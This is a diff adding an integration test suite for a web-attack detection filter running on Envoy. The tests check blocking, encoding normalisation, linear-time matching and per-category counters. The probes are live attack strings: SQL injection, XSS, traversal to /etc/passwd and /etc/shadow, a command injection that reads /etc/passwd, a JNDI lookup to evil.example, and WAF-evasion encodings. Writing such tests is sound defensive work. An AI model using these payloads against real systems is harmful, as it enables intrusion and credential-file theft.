@@ -1,0 +1,118 @@
+// Attack detection inside the filter, on a real Envoy: every category, every normalisation trick, the
+// places it looks, linear time on pathological input, and monitor mode.
+import { test, before, after } from "node:test";
+import assert from "node:assert/strict";
+import { CaptureStack, FAST_REPORTS } from "../helpers/stack.ts";
+
+let stack: CaptureStack;
+
+before(async () => {
+  stack = await CaptureStack.start({
+    pluginConfig: {
+      ...FAST_REPORTS,
+      enforcement: { refreshInterval: 0 },
+      policy: {
+        detection: { action: "block", headers: ["user-agent", "referer", "x-forwarded-host"] },
+        rules: [{ id: "watch-only", action: "monitor", match: { path: { prefix: "/monitor-only" } } }],
+      },
+    },
+  });
+});
+after(async () => {
+  await stack?.stop();
+});
+
+interface Probe {
+  path: string;
+  method?: string;
+  headers?: Record<string, string>;
+  body?: string;
+}
+
+async function expectDetected(probe: Probe, category: string, location?: string | RegExp): Promise<void> {
+  const r = await stack.sendHttp(probe.path, { method: probe.method ?? (probe.body ? "POST" : "GET"), headers: probe.headers, body: probe.body });
+  assert.equal(r.status, 403, `expected ${category} in ${JSON.stringify(probe)} to be blocked`);
+  assert.equal(r.body, "Access Forbidden", "nothing about the rule is revealed");
+  assert.equal(stack.upstream.seen.get(r.testId), undefined, "a blocked request never reaches the upstream whole");
+  const c = await stack.captureOf(r.testId);
+  assert.equal(c.attributes["gatewarden.verdict.category"], category, JSON.stringify(c.attributes));
+  assert.equal(c.attributes["gatewarden.verdict.action"], "block");
+  assert.match(String(c.attributes["gatewarden.verdict.rule"]), new RegExp(`^${category}\\.`));
+  const snippet = String(c.attributes["gatewarden.verdict.snippet"]);
+  assert.ok(snippet.length > 0 && snippet.length <= 64, `snippet "${snippet}"`);
+  if (location !== undefined) {
+    if (typeof location === "string") assert.equal(c.attributes["gatewarden.verdict.location"], location);
+    else assert.match(String(c.attributes["gatewarden.verdict.location"]), location);
+  }
+}
+
+async function expectClean(probe: Probe): Promise<void> {
+  const r = await stack.sendHttp(probe.path, { method: probe.method ?? (probe.body ? "POST" : "GET"), headers: probe.headers, body: probe.body });
+  assert.equal(r.status, 200, `expected ${JSON.stringify(probe)} to pass`);
+}
+
+const json = { "content-type": "application/json" };
+const form = { "content-type": "application/x-www-form-urlencoded" };
+
+test("each category is detected where attackers put it", async () => {
+  await expectDetected({ path: "/items?id=1%27%20OR%20%271%27%3D%271" }, "sqli", "query:id");
+  await expectDetected({ path: "/comments", headers: json, body: JSON.stringify({ post: 3, text: "<script>alert(document.cookie)</script>" }) }, "xss", "body.json:$.text");
+  await expectDetected({ path: "/download?file=..%2F..%2F..%2Fetc%2Fpasswd" }, "traversal", "query:file");
+  await expectDetected({ path: "/ping", headers: form, body: "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd&count=1" }, "cmdi", "body.form:host");
+  await expectDetected({ path: "/", headers: { "user-agent": "${jndi:ldap://evil.example/a}" } }, "jndi", "header:user-agent");
+  await expectDetected({ path: "/", headers: { cookie: "theme=dark; session=' UNION SELECT password FROM users--" } }, "sqli", "cookie:session");
+  await expectDetected({ path: "/", headers: { "x-forwarded-host": "<svg onload=alert(1)>" } }, "xss", "header:x-forwarded-host");
+  await expectDetected({ path: "/search?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1" }, "xss", "query-name");
+});
+
+test("encodings do not evade detection", async () => {
+  // Double URL encoding.
+  await expectDetected({ path: "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd" }, "traversal");
+  // '+' as space, case games and SQL comments instead of spaces.
+  await expectDetected({ path: "/items?id=1+UnIoN/**/SeLeCt+username,password+FrOm+users" }, "sqli");
+  // %u escapes.
+  await expectDetected({ path: "/q?s=%u003Cscript%u003Ealert(1)%u003C/script%u003E" }, "xss");
+  // \u escapes inside JSON.
+  await expectDetected({ path: "/comments", headers: json, body: '{"text":"\\u003cimg src=x onerror=alert(1)\\u003e"}' }, "xss");
+  // HTML entities.
+  await expectDetected({ path: "/q?s=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B" }, "xss");
+  await expectDetected({ path: "/q?s=%26%2360%3Bscript%26%2362%3Balert(1)%26%2360%3B%2Fscript%26%2362%3B" }, "xss");
+  // Null bytes.
+  await expectDetected({ path: "/download?file=..%2F..%2Fetc%2Fpasswd%00.png" }, "traversal");
+  await expectDetected({ path: "/q?s=%3Cscr%00ipt%3Ealert(1)%3C%2Fscript%3E" }, "xss");
+  // Whitespace tricks: tabs, newlines, vertical tabs between SQL keywords.
+  await expectDetected({ path: "/items?id=1%09OR%0A1%3D1%0B--" }, "sqli");
+  // Path tricks: ./, // and %2e%2e.
+  await expectDetected({ path: "/static/.%2e/.%2e/.%2e//etc/./passwd" }, "traversal", "path");
+  await expectDetected({ path: "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow" }, "traversal", "path");
+});
+
+test("ordinary API traffic passes", async () => {
+  await expectClean({ path: "/api/v1/orders?status=open&page=2&sort=-created_at" });
+  await expectClean({ path: "/api/v1/orders", headers: json, body: JSON.stringify({ sku: "A-1", qty: 2, note: "Leave it at the door, please; ring twice." }) });
+  await expectClean({ path: "/login", headers: form, body: "user=ann%40example.com&remember=on" });
+  await expectClean({ path: "/search?q=select+a+good+union+rep+from+the+list" });
+  await expectClean({ path: "/docs/guide/./intro.html" });
+  await expectClean({ path: "/", headers: { "user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36" } });
+});
+
+test("pathological inputs are answered without stalling Envoy (linear-time matching)", async () => {
+  for (const pattern of ["'", "<", "(", "((((((((((", "${", "../", "%27"]) {
+    const value = pattern.repeat(Math.ceil((128 * 1024) / pattern.length)).slice(0, 128 * 1024);
+    const started = Date.now();
+    const r = await stack.sendHttp("/pathological", { method: "POST", headers: json, body: JSON.stringify({ v: value }) });
+    const took = Date.now() - started;
+    assert.ok(r.status === 200 || r.status === 403, `status ${r.status}`);
+    assert.ok(took < 2000, `128 KiB of ${JSON.stringify(pattern)} took ${took} ms`);
+  }
+  const started = Date.now();
+  assert.equal((await stack.sendHttp("/after")).status, 200);
+  assert.ok(Date.now() - started < 1000, "Envoy kept serving");
+});
+
+test("blocked attacks are counted per category", async () => {
+  const stats = await stack.stats();
+  for (const category of ["sqli", "xss", "traversal", "cmdi", "jndi"]) {
+    assert.ok((stats.get(`gatewarden_blocked_${category}_total`) ?? 0) >= 1, `gatewarden_blocked_${category}_total`);
+  }
+});
